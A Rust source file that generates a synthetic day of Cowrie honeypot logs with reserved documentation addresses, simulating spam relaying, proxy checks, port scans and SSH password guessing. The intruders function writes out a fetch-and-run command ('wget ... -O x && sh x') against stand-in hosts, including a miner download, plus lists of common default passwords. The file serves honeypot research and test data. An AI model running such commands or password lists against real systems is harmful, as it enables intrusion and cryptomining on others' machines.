//! One invented day of a honeypot at home, as Cowrie 3.1 would log it.
//!
//! Nobody in it exists: addresses and names are those reserved for documentation (RFC 5737,
//! RFC 3849, RFC 2606). Its shape is that of real days: a gang in one /28 sends mail through
//! the honeypot, another checks whether it is a proxy, a few scanners knock on the ports of one
//! host, and the rest tries passwords. The hosts of one address list are reached by the same
//! sources through the same ports, as hosts of a real list are. The seed moves times, session
//! numbers and repeats; who reaches whom stays the same.

use std::fmt::Write as _;

use md5::{Digest as _, Md5};

/// The seed of the log that the project ships.
pub(crate) const SEED: u64 = 20_260_314;

const DATE: &str = "2026-03-14";
const SENSOR: &str = "attic";
const UUID: &str = "5f0c2b1e-1f0a-11f1-9d3b-0242ac110002";
const POT: &str = "192.0.2.10";

/// In microseconds.
const SECOND: u64 = 1_000_000;
const MINUTE: u64 = 60 * SECOND;
const HOUR: u64 = 60 * MINUTE;

/// The sources that send mail: nine of one /28.
const MAILERS: [&str; 9] = [
    "198.51.100.33",
    "198.51.100.34",
    "198.51.100.35",
    "198.51.100.36",
    "198.51.100.38",
    "198.51.100.39",
    "198.51.100.41",
    "198.51.100.44",
    "198.51.100.46",
];

/// The sources that look for open proxies.
const CHECKERS: [&str; 8] = [
    "203.0.113.5",
    "203.0.113.6",
    "203.0.113.7",
    "203.0.113.8",
    "203.0.113.17",
    "203.0.113.21",
    "203.0.113.64",
    "203.0.113.65",
];

/// Sources that try passwords and do nothing else.
const GUESSERS: [&str; 9] = [
    "192.0.2.77",
    "192.0.2.91",
    "192.0.2.130",
    "192.0.2.201",
    "198.51.100.140",
    "198.51.100.177",
    "203.0.113.99",
    "203.0.113.143",
    "2001:db8:66::9",
];

/// Sources that guess a password and type something.
const INTRUDERS: [&str; 4] = ["192.0.2.54", "198.51.100.201", "203.0.113.180", "2001:db8:a1::51"];

/// Sources that try one tunnel and leave: each asks for the first host, some for the second.
const TESTERS: [&str; 6] = [
    "192.0.2.18",
    "192.0.2.19",
    "192.0.2.160",
    "198.51.100.222",
    "203.0.113.231",
    "2001:db8:7::1a",
];

/// What a family of clients calls itself, and the algorithms that it lists for HASSH.
struct Client {
    version: &'static str,
    algorithms: &'static str,
}

const GO: Client = Client {
    version: "SSH-2.0-Go",
    algorithms: "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,\
        ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group14-sha256,ext-info-c;\
        aes128-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr;\
        hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1;none",
};
const PUTTY: Client = Client {
    version: "SSH-2.0-PUTTY",
    algorithms: "diffie-hellman-group14-sha1,diffie-hellman-group1-sha1;\
        aes256-ctr,aes256-cbc,aes128-ctr,3des-cbc;hmac-sha1,hmac-md5;none,zlib",
};
const LIBSSH2: Client = Client {
    version: "SSH-2.0-libssh2_1.11.0",
    algorithms: "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha256,\
        diffie-hellman-group14-sha1;aes256-ctr,aes192-ctr,aes128-ctr,aes128-cbc;\
        hmac-sha2-256,hmac-sha2-512,hmac-sha1;none",
};
const PARAMIKO: Client = Client {
    version: "SSH-2.0-paramiko_3.5.0",
    algorithms: "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group16-sha512,\
        diffie-hellman-group14-sha256;aes128-ctr,aes192-ctr,aes256-ctr;\
        hmac-sha2-256,hmac-sha2-512,hmac-sha1;none",
};

const PASSWORDS: [&str; 14] = [
    "123456",
    "password",
    "admin",
    "1234",
    "root",
    "12345678",
    "qwerty",
    "raspberry",
    "ubuntu",
    "letmein",
    "P@ssw0rd",
    "toor",
    "test",
    "changeme",
];
const USERS: [&str; 8] = ["root", "admin", "pi", "ubuntu", "test", "oracle", "postgres", "git"];
const WORDS: [&str; 24] = [
    "alder", "amber", "aspen", "birch", "briar", "cedar", "clover", "copper", "elm", "fern",
    "flint", "hazel", "heron", "ivory", "juniper", "larch", "linden", "maple", "otter", "quartz",
    "raven", "rowan", "slate", "willow",
];

/// The log of the day, line by line in the order of time.
pub(crate) fn log(seed: u64) -> String {
    let mut day = Day { random: Random(seed), lines: Vec::new() };
    day.mail();
    day.checks();
    day.logins_elsewhere();
    day.scans();
    day.tests();
    day.guesses();
    day.intruders();
    day.lines.sort_by_key(|line| line.0);
    day.lines.into_iter().map(|line| line.1).collect()
}

/// A tunnel that a session asks for.
type Request = (String, u16);

struct Day {
    random: Random,
    lines: Vec<(u64, String)>,
}

/// A connection, while its lines are written.
struct Session {
    id: String,
    source: &'static str,
    source_port: u16,
    protocol: &'static str,
    start: u64,
    now: u64,
}

impl Day {
    /// Four lists of mail hosts, each worked through by its part of the gang.
    fn mail(&mut self) {
        let lists: [(&str, usize, &[usize], &[u16]); 5] = [
            ("mx", 62, &[0, 1], &[25]),
            ("smtp", 40, &[0, 2, 3], &[25, 587]),
            ("mail", 28, &[4, 5, 6], &[465]),
            ("relay", 18, &[7, 8], &[25, 465]),
            ("out", 6, &[0, 4, 7], &[25]),
        ];
        for (first, count, gang, ports) in lists {
            for member in gang {
                let mut requests = hosts(first, "example", count, ports);
                self.repeat(&mut requests, count * ports.len() / 2);
                self.tunnels(MAILERS[*member], &PUTTY, &mut requests, 70);
            }
        }
        // Each of the gang has a few hosts that nobody else asks for.
        for (member, source) in
            MAILERS.into_iter().enumerate().filter(|(member, _)| member % 3 == 0)
        {
            let host = format!("mx{member}.{}.example", WORDS[23 - member]);
            let mut requests = vec![(host, 25); 9];
            self.tunnels(source, &PUTTY, &mut requests, 70);
        }
    }

    /// The judges that tell a proxy's address, then lists of shops.
    fn checks(&mut self) {
        for source in CHECKERS {
            let mut requests: Vec<Request> = [("judge.example", 80), ("ip.example", 80)]
                .into_iter()
                .flat_map(|(host, port)| vec![(host.to_owned(), port); 3])
                .collect();
            requests.extend(vec![("ip.example".to_owned(), 443); 2]);
            self.tunnels(source, &GO, &mut requests, 40);
        }
        let lists: [(&str, usize, &[usize], &[u16]); 3] = [
            ("www", 54, &[0, 1, 2], &[443]),
            ("shop", 34, &[3, 4], &[80, 443]),
            ("api", 20, &[5, 6, 7], &[443]),
        ];
        for (first, count, gang, ports) in lists {
            for member in gang {
                let mut requests = hosts(first, "example.net", count, ports);
                self.repeat(&mut requests, count / 2);
                self.tunnels(CHECKERS[*member], &GO, &mut requests, 60);
            }
        }
    }

    /// Two sources try stolen passwords on three doors, again and again.
    fn logins_elsewhere(&mut self) {
        for (source, doors) in [
            ("192.0.2.44", &["login.bank.example", "sso.games.example", "id.video.example"][..]),
            ("2001:db8:5::c0de", &["sso.games.example", "id.video.example"]),
        ] {
            let mut requests: Vec<Request> =
                doors.iter().flat_map(|door| vec![((*door).to_owned(), 443); 60]).collect();
            self.tunnels(source, &LIBSSH2, &mut requests, 45);
        }
    }

    /// Through the honeypot at the ports of two hosts.
    fn scans(&mut self) {
        for (source, host, ports) in [
            ("192.0.2.150", "203.0.113.200", &[22, 23, 80, 443, 3389, 5900, 8080][..]),
            ("198.51.100.250", "203.0.113.200", &[22, 3306, 5432, 6379]),
            ("198.51.100.251", "2001:db8:ff::25", &[22, 25, 443]),
        ] {
            let mut requests: Vec<Request> =
                ports.iter().flat_map(|port| vec![(host.to_owned(), *port); 2]).collect();
            self.tunnels(source, &PARAMIKO, &mut requests, 30);
        }
    }

    /// One question each: does it forward?
    fn tests(&mut self) {
        for (at, source) in TESTERS.into_iter().enumerate() {
            let mut requests = vec![("search.example.com".to_owned(), 443)];
            if at % 2 == 0 {
                requests.push(("203.0.113.250".to_owned(), 80));
            }
            self.tunnels(source, &GO, &mut requests, 5);
        }
    }

    fn guesses(&mut self) {
        for (at, source) in GUESSERS.into_iter().enumerate() {
            let client = [&GO, &LIBSSH2, &PARAMIKO][at % 3];
            for _ in 0..3 + self.random.below(4) {
                let mut session = self.connect(source, if at % 4 == 3 { "telnet" } else { "ssh" });
                if session.protocol == "ssh" {
                    self.hello(&mut session, client);
                }
                for _ in 0..2 + self.random.below(5) {
                    let user = USERS[self.random.below(USERS.len())];
                    let password = PASSWORDS[self.random.below(PASSWORDS.len())];
                    self.login(&mut session, user, password, Login::Refused);
                }
                self.close(session);
            }
        }
    }

    fn intruders(&mut self) {
        let fetched = "http://203.0.113.66/a.sh";
        let other = "http://files.example.org/miner.tgz";
        for (at, source) in INTRUDERS.into_iter().enumerate() {
            for _ in 0..2 {
                let mut session = self.connect(source, "ssh");
                self.hello(&mut session, [&GO, &LIBSSH2][at % 2]);
                self.login(&mut session, "root", "root", Login::Refused);
                self.login(&mut session, "root", "123456", Login::Accepted);
                let url = if at == 3 { other } else { fetched };
                for command in [
                    "uname -a".to_owned(),
                    "cat /proc/cpuinfo | grep name | wc -l".to_owned(),
                    format!("cd /tmp; wget {url} -O x && sh x"),
                ] {
                    let message = format!("CMD: {command}");
                    self.say(&mut session, "command.input", &message, &[("input", &command)]);
                }
                let sum = hex(&Md5::digest(url)) + &hex(&Md5::digest([url, "2"].concat()));
                let file = format!("var/lib/cowrie/downloads/{sum}");
                let message = format!("Downloaded URL ({url}) with SHA-256 {sum} to {file}");
                let fields = [("url", url), ("outfile", &file), ("shasum", &sum)];
                self.say(&mut session, "session.file_download", &message, &fields);
                self.close(session);
            }
        }
    }

    /// Adds as many requests as that for hosts that the list already has.
    fn repeat(&mut self, requests: &mut Vec<Request>, count: usize) {
        for _ in 0..count {
            // The smaller of two: few hosts are asked for often.
            let at = self.random.below(requests.len()).min(self.random.below(requests.len()));
            requests.push(requests[at].clone());
        }
    }

    /// Works through the requests in sessions of at most so many, over the day.
    fn tunnels(
        &mut self,
        source: &'static str,
        client: &Client,
        requests: &mut [Request],
        most: usize,
    ) {
        self.random.shuffle(requests);
        for part in requests.chunks(most) {
            let mut session = self.connect(source, "ssh");
            self.hello(&mut session, client);
            self.login(&mut session, "root", "admin", Login::Accepted);
            for (host, port) in part {
                session.now += SECOND / 5 + self.random.upto(20 * SECOND);
                let origin_port = 1024 + self.random.below(60_000);
                let end = format!(
                    r#""dst_ip":"{host}","dst_port":{port},"orig_ip":"127.0.0.1","orig_port":{origin_port},"#
                );
                let message = format!(
                    "direct-tcp connection request to {host}:{port} from 127.0.0.1:{origin_port}"
                );
                self.line(&session, &end, "direct-tcpip.request", &message);
            }
            self.close(session);
        }
    }

    /// Most come in the evening, none so late that the day ends before they do.
    fn connect(&mut self, source: &'static str, protocol: &'static str) -> Session {
        let start = self.random.upto(22 * HOUR).max(self.random.upto(22 * HOUR));
        let session = Session {
            id: format!("{:012x}", self.random.bits() >> 16),
            source,
            source_port: 1024 + u16::try_from(self.random.below(60_000)).unwrap_or(0),
            protocol,
            start,
            now: start,
        };
        let (port, own) = (session.source_port, session.own_port());
        let message =
            format!("New connection: {source}:{port} ({POT}:{own}) [session: {}]", session.id);
        self.line(&session, &session.own(), "session.connect", &message);
        session
    }

    fn hello(&mut self, session: &mut Session, client: &Client) {
        let version = client.version;
        let message = format!("Remote SSH version: {version}");
        self.say(session, "client.version", &message, &[("version", version)]);
        let hassh = hex(&Md5::digest(client.algorithms));
        let message = format!("SSH client hassh fingerprint: {hassh}");
        let fields = [("hassh", hassh.as_str()), ("hasshAlgorithms", client.algorithms)];
        self.say(session, "client.kex", &message, &fields);
    }

    fn login(&mut self, session: &mut Session, user: &str, password: &str, login: Login) {
        let (event, end) = match login {
            Login::Accepted => ("login.success", "succeeded"),
            Login::Refused => ("login.failed", "failed"),
        };
        let message = format!("login attempt [{user}/{password}] {end}");
        self.say(session, event, &message, &[("username", user), ("password", password)]);
    }

    fn close(&mut self, mut session: Session) {
        session.now += self.random.upto(5 * SECOND);
        let millis = (session.now - session.start) / 1000;
        let fields = format!(r#"{}"duration_ms":{millis},"#, session.own());
        let message = format!("Connection lost after {millis} milliseconds");
        self.line(&session, &fields, "session.closed", &message);
    }

    /// A line of the honeypot's own side, a moment later, with these strings.
    fn say(&mut self, session: &mut Session, event: &str, message: &str, more: &[(&str, &str)]) {
        session.now += SECOND / 10 + self.random.upto(2 * SECOND);
        let mut fields = session.own();
        for (name, text) in more {
            let _ = write!(fields, r#""{name}":{},"#, quoted(text));
        }
        self.line(session, &fields, event, message);
    }

    fn line(&mut self, session: &Session, fields: &str, event: &str, message: &str) {
        let Session { id, protocol, source, source_port, now, .. } = session;
        let (hour, minute) = (now / HOUR, now % HOUR / MINUTE);
        let (second, micro) = (now % MINUTE / SECOND, now % SECOND);
        let message = quoted(message);
        self.lines.push((
            *now,
            format!(
                r#"{{"session":"{id}","protocol":"{protocol}","src_ip":"{source}","src_port":{source_port},{fields}"eventid":"cowrie.{event}","sensor":"{SENSOR}","uuid":"{UUID}","timestamp":"{DATE}T{hour:02}:{minute:02}:{second:02}.{micro:06}Z","message":{message}}}
"#
            ),
        ));
    }
}

impl Session {
    fn own_port(&self) -> u16 {
        if self.protocol == "ssh" { 2222 } else { 2223 }
    }

    /// The honeypot's side of the connection.
    fn own(&self) -> String {
        format!(r#""dst_ip":"{POT}","dst_port":{},"#, self.own_port())
    }
}

/// What became of a login.
#[derive(Clone, Copy)]
enum Login {
    Accepted,
    Refused,
}

/// A list of hosts, each on all of the ports; every ninth is an address.
fn hosts(first: &str, zone: &str, count: usize, ports: &[u16]) -> Vec<Request> {
    (0..count)
        .map(|at| match at % 9 {
            8 => format!("203.0.113.{}", 100 + (at / 9 + first.len() * 7) % 80),
            _ => {
                let (word, turn) = (WORDS[at % WORDS.len()], at / WORDS.len());
                let number = if turn == 0 { String::new() } else { turn.to_string() };
                format!("{first}{number}.{word}.{zone}")
            }
        })
        .flat_map(|host| ports.iter().map(move |port| (host.clone(), *port)))
        .collect()
}

/// The texts of this log hold no control characters: two escapes are enough.
fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |mut text, byte| {
        let _ = write!(text, "{byte:02x}");
        text
    })
}

/// `SplitMix64` (Steele, Lea and Flood 2014): the same on every machine.
struct Random(u64);

impl Random {
    fn bits(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut bits = self.0;
        bits = (bits ^ (bits >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        bits = (bits ^ (bits >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        bits ^ (bits >> 31)
    }

    /// Below `end`, which is not 0.
    fn below(&mut self, end: usize) -> usize {
        ((u128::from(self.bits()) * end as u128) >> 64) as usize
    }

    /// Below `end`.
    fn upto(&mut self, end: u64) -> u64 {
        ((u128::from(self.bits()) * u128::from(end)) >> 64) as u64
    }

    /// Fisher and Yates.
    fn shuffle<T>(&mut self, items: &mut [T]) {
        for at in (1..items.len()).rev() {
            items.swap(at, self.below(at + 1));
        }
    }
}
